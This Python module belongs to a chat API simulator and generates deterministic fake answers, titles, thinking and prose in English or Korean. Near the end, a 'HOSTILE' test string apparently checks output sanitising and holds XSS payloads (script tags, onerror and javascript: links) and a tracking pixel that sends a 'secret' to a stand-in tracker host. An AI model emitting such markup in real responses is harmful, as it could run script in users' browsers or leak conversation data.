"""The simulator's texts: demo answers in English or Korean, titles, continuations, thinking and long prose.

Every text depends only on the request and on a random source seeded by it, so the same request gives the same
text.
"""

import functools
import random
import re
from typing import Any

from chat.simulator.prompts import tokens
from chat.simulator.prompts.prompt import TITLE_WORDS, Block, Prompt

HANGUL = re.compile(r"[\uac00-\ud7a3]")
LABEL = re.compile(r"^(user|human|assistant|사용자|질문)\s*:\s*", re.IGNORECASE)
TAG = re.compile(r"</?\w+>")  # tags around a quoted conversation are not part of its text
CONTINUE = ("continue", "계속", "이어서")
LONGEST_KEPT_TOKENS = 40_000

SAMPLES = (
    """```python
def mean(values: list[float]) -> float:
    \"\"\"Return the arithmetic mean.\"\"\"
    return sum(values) / len(values)
```""",
    """```sql
SELECT author, count(*) AS answers
FROM message
WHERE created_at > now() - interval '7 days'
GROUP BY author
ORDER BY answers DESC;
```""",
    """```javascript
export function debounce(call, delay) {
  let timer;
  return (...values) => {
    clearTimeout(timer);
    timer = setTimeout(() => call(...values), delay);
  };
}
```""",
)

ENGLISH = {
    "hello": ("Here is what I have for you", "Let me answer that", "A simulated answer"),
    "wrote": "You wrote:",
    "who": "I am **{name}** as the simulator plays it. No model runs here, so the words are made up, but the "
    "*streaming*, the token counts, the prompt cache and the thinking signatures follow the real rules.",
    "arrived": "What I received",
    "rows": ("What", "Value"),
    "names": ("Model", "Messages", "System prompt", "Tools", "Thinking", "Prompt tokens", "Read from cache"),
    "written": "Written to cache",
    "none": "none",
    "characters": "{n:,} characters",
    "sample": "A block of code",
    "next": "What you can try next",
    "tips": (
        'ask for a tool with a line such as `/tool NAME {"key": "value"}`, when tools are configured;',
        "press **Stop** in the middle of an answer, then **Continue**;",
        "reload the page, or open the conversation in a second tab, while the text is still arriving.",
    ),
    "tool": "The tool `{name}` answered:",
    "failed": "The tool `{name}` failed:",
    "tools_done": "That is all I need, thank you. The answer above is what the tools reported.",
    "calling": "Let me look that up.",
    "according": "According to **{title}**: ",
    "continued": "and that brings us to the remaining part. In short: the beginning stays as it was, nothing "
    "is repeated, and the text simply goes on from where it stopped.\n\n- The partial answer was kept.\n"
    "- The new text follows it.\n\nWith that, the answer is complete.",
}
KOREAN = {
    "hello": ("답변을 준비했습니다", "이렇게 답해 드릴게요", "시뮬레이터의 답변"),
    "wrote": "보내신 내용:",
    "who": "저는 시뮬레이터가 흉내 내는 **{name}**입니다. 실제 모델은 실행되지 않으므로 내용은 "
    "지어낸 것이지만, *스트리밍*, 토큰 수, 프롬프트 캐시, 생각 서명은 실제 규칙을 따릅니다.",
    "arrived": "제가 받은 것",
    "rows": ("항목", "값"),
    "names": ("모델", "메시지", "시스템 프롬프트", "도구", "생각", "프롬프트 토큰", "캐시에서 읽음"),
    "written": "캐시에 씀",
    "none": "없음",
    "characters": "{n:,}자",
    "sample": "코드 예시",
    "next": "다음으로 해 볼 만한 것",
    "tips": (
        '도구가 설정되어 있으면 `/tool 이름 {"key": "value"}` 같은 줄로 도구를 부를 수 있습니다.',
        "답변 도중 **중지**를 누른 뒤 **계속**을 눌러 보세요.",
        "글이 도착하는 동안 새로고침하거나 두 번째 탭에서 대화를 열어 보세요.",
    ),
    "tool": "도구 `{name}`의 응답:",
    "failed": "도구 `{name}` 실패:",
    "tools_done": "필요한 정보를 모두 얻었습니다. 위 내용이 도구가 알려 준 결과입니다.",
    "according": "**{title}**에 따르면: ",
    "calling": "확인해 보겠습니다.",
    "continued": "그래서 나머지 부분으로 이어집니다. 앞부분은 그대로 두고, 반복 없이 멈춘 곳에서 "
    "계속 이어 씁니다.\n\n- 이미 받은 글은 보존되었습니다.\n- 새 글이 그 뒤를 잇습니다.\n\n이것으로 답변을 마칩니다.",
}
THOUGHTS = (
    "The user wrote to me and I should find out what they want.",
    "First I look at the conversation so far and at the instructions that came with it.",
    "There are several ways to answer; the clearest is a short structure with an example.",
    "I check that the numbers I want to show are the ones that were really counted.",
    "A table says it best, then a block of code, then what to try next.",
    "Nothing in the request asks for more than that, so I keep it brief.",
    "Before I write I make sure that I don't repeat what was already said.",
    "Now I can write the answer.",
)
SENTENCES = (
    "The river turns slowly past the old mill, and there is no hurry.",
    "Every small part of the machine has a name that says what it does.",
    "She wrote the measurements down twice, once in ink and once in pencil.",
    "A good map leaves out almost everything, and that is why it helps.",
    "When the light changed they packed the instruments and walked home.",
    "The second attempt took half the time, because the first one had been kept.",
    "Rain drummed on the roof of the workshop while the glue was drying.",
    "Between the two answers lay one question that had not been asked yet.",
)


def speaks_korean(text: str) -> bool:
    """Return whether a text contains Hangul syllables."""
    return bool(HANGUL.search(text))


def words_for(prompt: Prompt) -> dict[str, Any]:
    """Return the phrases in the language of the user's text."""
    return KOREAN if speaks_korean(prompt.user_text()) else ENGLISH


def asks_to_continue(prompt: Prompt) -> bool:
    """Return whether the last user text asks to continue a partial answer."""
    return prompt.user_text().lstrip().lower().startswith(CONTINUE)


def demo(prompt: Prompt, rng: random.Random, counts: dict[str, int]) -> str:
    """Return the default answer; `counts` has the prompt's tokens: total, read and written."""
    words = words_for(prompt)
    sections = [
        f"## {rng.choice(words['hello'])}",
        f"{words['wrote']}\n\n> {quote(prompt.user_text())}",
        words["who"].format(name=prompt.model.name),
        f"### {words['arrived']}\n\n{_table(prompt, words, counts)}",
        f"### {words['sample']}\n\n{rng.choice(SAMPLES)}",
        f"### {words['next']}\n\n" + "\n".join(f"{n}. {tip}" for n, tip in enumerate(words["tips"], 1)),
    ]
    return "\n\n".join(sections) + "\n"


def _table(prompt: Prompt, words: dict[str, Any], counts: dict[str, int]) -> str:
    system = sum(len(block["text"]) for block in prompt.system)
    tools = ", ".join(f"`{tool.get('name') or tool['mcp_server_name']}`" for tool in prompt.tools)
    values = (
        f"`{prompt.model.id}`",
        str(len(prompt.body["messages"])),
        words["characters"].format(n=system) if system else words["none"],
        tools or words["none"],
        f"{prompt.thinking_type()}, {prompt.effort()}",
        f"{counts['total']:,}",
        f"{counts['read']:,}",
        f"{counts['written']:,}",
    )
    names = (*words["names"], words["written"])
    head = f"| {words['rows'][0]} | {words['rows'][1]} |\n|---|---|\n"
    return head + "\n".join(f"| {name} | {value} |" for name, value in zip(names, values, strict=True))


def quote(text: str, length: int = 160) -> str:
    """Return the beginning of a text on one line."""
    line = " ".join(text.split())
    return line if len(line) <= length else line[: length - 1].rstrip() + "…"


def title(prompt: Prompt) -> str:
    """Return a short title made of the user's own words."""
    lines = [
        LABEL.sub("", line.strip(" \"'`<>#*-"))
        for line in prompt.user_text().splitlines()
        if not TAG.fullmatch(line.strip())
    ]
    own = [line for line in lines if line and not any(word in line.lower() for word in TITLE_WORDS)]
    chosen = (own or lines or [""])[0].split()[:6]
    text = " ".join(chosen).strip(".,;:!?\"'")
    return text[:1].upper() + text[1:] if text else "New conversation"


def continuation(prompt: Prompt) -> str:
    """Return text that continues a partial answer."""
    return str(words_for(prompt)["continued"])


def report(prompt: Prompt, results: list[Block]) -> str:
    """Return an answer that repeats the results of tools; `results` are tool_result blocks."""
    words = words_for(prompt)
    names = {b["id"]: b["name"] for t in prompt.turns for b in t.blocks if b["type"] == "tool_use"}
    parts = []
    for result in results:
        head = words["failed" if result.get("is_error") else "tool"]
        body = quote(_result_text(result.get("content")), 400) or words["none"]
        parts.append(f"{head.format(name=names.get(result['tool_use_id'], '?'))}\n\n> {body}")
    return "\n\n".join([*parts, str(words["tools_done"])]) + "\n"


def _result_text(content: Any) -> str:
    if isinstance(content, str):
        return content
    parts = content or []
    return " ".join(part["text"] if part["type"] == "text" else f"[{part['type']}]" for part in parts)


def thoughts(rng: random.Random, effort: str) -> str:
    """Return thinking whose length grows with the effort."""
    count = {"low": 2, "medium": 3, "high": 5, "xhigh": 9, "max": 14}[effort]
    return " ".join(
        THOUGHTS[:1] + tuple(rng.choice(THOUGHTS[1:-1]) for _ in range(count - 2)) + THOUGHTS[-1:]
    )


def prose(seed: int, wanted_tokens: int, chars_per_token: int) -> str:
    """Return prose of `wanted_tokens` tokens."""
    short = wanted_tokens <= LONGEST_KEPT_TOKENS
    return (_kept_prose if short else _prose)(seed, wanted_tokens, chars_per_token)


def _prose(seed: int, wanted_tokens: int, chars_per_token: int) -> str:
    rng = random.Random(seed)  # noqa: S311  made-up words need no secrecy
    sentences = max(1, wanted_tokens * chars_per_token // 50)
    parts = [rng.choice(SENTENCES) + ("\n\n" if number % 6 == 5 else " ") for number in range(sentences)]
    text = "".join(parts)
    return tokens.cut(text, wanted_tokens, chars_per_token)


_kept_prose = functools.lru_cache(maxsize=8)(_prose)  # load tests repeat the same text


ODD_TEXT = (
    "NUL:\x00 bell:\x07 escape:\x1b[31m right-to-left:\u202eabc\u202c "
    "family:\U0001f468\u200d\U0001f469\u200d\U0001f467 flag:\U0001f1f0\U0001f1f7 "
    "combining:e\u0301\u0327 zero-width:a\u200bb bom:\ufeff line:\u2028 paragraph:\u2029 "
    "tag:\U000e0041 private:\ue000 noncharacter:\uffff astral:\U0001d54f halfwidth:\uff76\uff9e end"
)
LONE_SURROGATE = "Half a pair: \ud83d and the other half: \ude00 end"
HOSTILE = """# Hostile markdown

<script>window.simulatorWasHere = true</script>
<img src=x onerror="window.simulatorWasHere = true">
<a href="javascript:window.simulatorWasHere = true">a link</a> and [another](javascript:alert(1))

![tracking](https://tracker.example.com/pixel.png?conversation=secret)

<iframe src="https://tracker.example.com/frame"></iframe>
<style>@import url("https://tracker.example.com/style.css"); body { display: none }</style>
<svg><script>window.simulatorWasHere = true</script></svg>
<form action="https://tracker.example.com/form"><input name="q"><button>Send</button></form>

```html
<script>this one is only code</script>
```
"""
